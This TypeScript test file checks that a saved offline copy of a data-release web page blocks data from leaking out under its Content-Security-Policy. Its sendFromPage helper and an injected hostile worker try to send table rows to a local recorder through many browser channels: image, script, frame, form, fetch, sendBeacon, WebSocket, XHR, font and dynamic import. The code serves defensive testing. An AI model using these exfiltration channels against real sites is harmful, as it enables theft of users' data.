import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { savedCopy } from '../../web/site/saved/build.js';
import { sampleTable } from './data-files.js';
import { engines, inTab } from './engines.js';
import { collectReports, hostileWorker, reportOf, type Report } from './hostile.js';
import { give, makeRelease, open, press, see, type InputFile } from './page.js';
import { startRecorder, type Recorder } from './recorder.js';
import type { Tab } from './tab.js';

const site = fileURLToPath(new URL('../../dist/site/', import.meta.url));
const sample = (name: string): Buffer => readFileSync(join(site, 'sample', name));
const study = { name: 'study.json', bytes: sample('study.json') };
const rows = { name: 'site-01.csv', bytes: sample('site-01.csv') };

const folder = mkdtempSync(join(tmpdir(), 'saved-'));
afterAll(() => {
  rmSync(folder, { recursive: true });
});

/** Writes a page to the disk and returns its address there. */
function onDisk(name: string, html: string): string {
  const path = join(folder, name);
  writeFileSync(path, html);
  return pathToFileURL(path).href;
}

/** Opens the study and a file in a saved copy with a hostile worker, and returns its report. */
async function hostileReport(tab: Tab, address: string): Promise<Report> {
  await open(tab, address);
  await collectReports(tab);
  await give(tab, 'pm-participate', study);
  await see(tab, 'Drop a file here');
  await give(tab, 'pm-participate', rows);
  return reportOf(tab);
}

/** Tries to send from the page itself, in every way that does not open another page. */
async function sendFromPage(tab: Tab, elsewhere: string): Promise<void> {
  await tab.run(async (to) => {
    const inPage = (name: string, attributes: Record<string, string>): void => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      if (element instanceof HTMLFormElement) element.submit();
    };
    const elements: [string, Record<string, string>][] = [
      ['img', { src: `${to}image` }],
      ['script', { src: `${to}script` }],
      ['link', { rel: 'stylesheet', href: `${to}style` }],
      ['link', { rel: 'prefetch', href: `${to}prefetch` }],
      ['iframe', { src: `${to}frame` }],
      ['object', { data: `${to}object` }],
      ['video', { src: `${to}video` }],
      ['form', { action: `${to}form`, target: '_blank' }],
    ];
    const attempts: (() => unknown)[] = [
      ...elements.map(([name, attributes]) => () => {
        inPage(name, attributes);
      }),
      () => fetch(`${to}fetch`, { method: 'POST', mode: 'no-cors', body: 'rows' }),
      () => navigator.sendBeacon(`${to}beacon`, 'rows'),
      () => new WebSocket(`${to}websocket`.replace('http', 'ws')),
      () => new EventSource(`${to}eventsource`),
      () => new FontFace('x', `url(${to}font)`).load(),
      () => import(/* @vite-ignore */ `${to}import`),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}xhr`);
        request.send('rows');
      },
    ];
    await Promise.allSettled(attempts.map((attempt) => Promise.resolve().then(attempt)));
    await new Promise((resolve) => setTimeout(resolve, 1000));
  }, elsewhere);
}

describe.each(Object.entries(engines))('in %s, the saved copy opened from a disk', (_, start) => {
  let elsewhere: Recorder;
  let saved: string;

  beforeAll(async () => {
    elsewhere = await startRecorder();
    saved = onDisk('saved.html', readFileSync(join(site, 'private-moments.html'), 'utf8'));
  });

  beforeEach(() => {
    elsewhere.forget();
  });

  afterAll(() => elsewhere.close());

  it('makes releases of every kind of file, and its ledger remembers them', () =>
    inTab(start, async (tab) => {
      await open(tab, saved);
      await give(tab, 'pm-participate', study);
      await see(tab, 'Drop a file here');
      const files: InputFile[] = [
        rows,
        { name: 'site-02.csv.gz', bytes: gzipSync(sample('site-02.csv')) },
        sampleTable('site-03', 'parquet'),
        sampleTable('site-04', 'arrow'),
      ];
      for (const file of files) {
        const release = JSON.parse(await makeRelease(tab, file)) as { rows: number };
        expect(release.rows, file.name).toBeGreaterThan(4800);
      }
      await open(tab, saved);
      await give(tab, 'pm-participate', study);
      await give(tab, 'pm-participate', rows);
      await see(tab, /was released once before/);
      await press(tab, 'Open ledger');
      await see(tab, 'site-04.arrow');
    }));

  it('lets no request out of the worker with the rows', () =>
    inTab(start, async (tab) => {
      const html = await savedCopy({
        worker: hostileWorker(elsewhere.address, `${elsewhere.address}own-`),
        licences: '',
      });
      const { rows: taken, tried } = await hostileReport(tab, onDisk('hostile.html', html));
      expect(taken, 'it has the rows').toBe(rows.bytes.toString().slice(0, 40));
      expect(elsewhere.arrived(), JSON.stringify(tried)).toEqual([]);
    }));

  it('would let nothing but import() out of that worker without its policy, as these tests would notice', () =>
    inTab(start, async (tab) => {
      const html = await savedCopy({
        worker: hostileWorker(elsewhere.address, `${elsewhere.address}own-`),
        licences: '',
      });
      const free = html.replace('http-equiv="Content-Security-Policy"', 'name="none"');
      await hostileReport(tab, onDisk('free.html', free));
      expect(elsewhere.arrived()).toEqual(['connection', 'import', 'own-import']);
    }));

  it('lets no request out of the page, but does not stop another page from being opened', () =>
    inTab(start, async (tab) => {
      await open(tab, saved);
      await sendFromPage(tab, elsewhere.address);
      // Chromium connects for a frame and for a form before it refuses them, and then sends nothing.
      const requests = elsewhere.arrived().filter((way) => way !== 'connection');
      expect(requests).toEqual([]);
      await tab.run((to) => {
        setTimeout(() => {
          location.href = `${to}navigation`;
        });
      }, elsewhere.address);
      await expect.poll(() => elsewhere.arrived(), { timeout: 10_000 }).toContain('navigation');
    }));
});
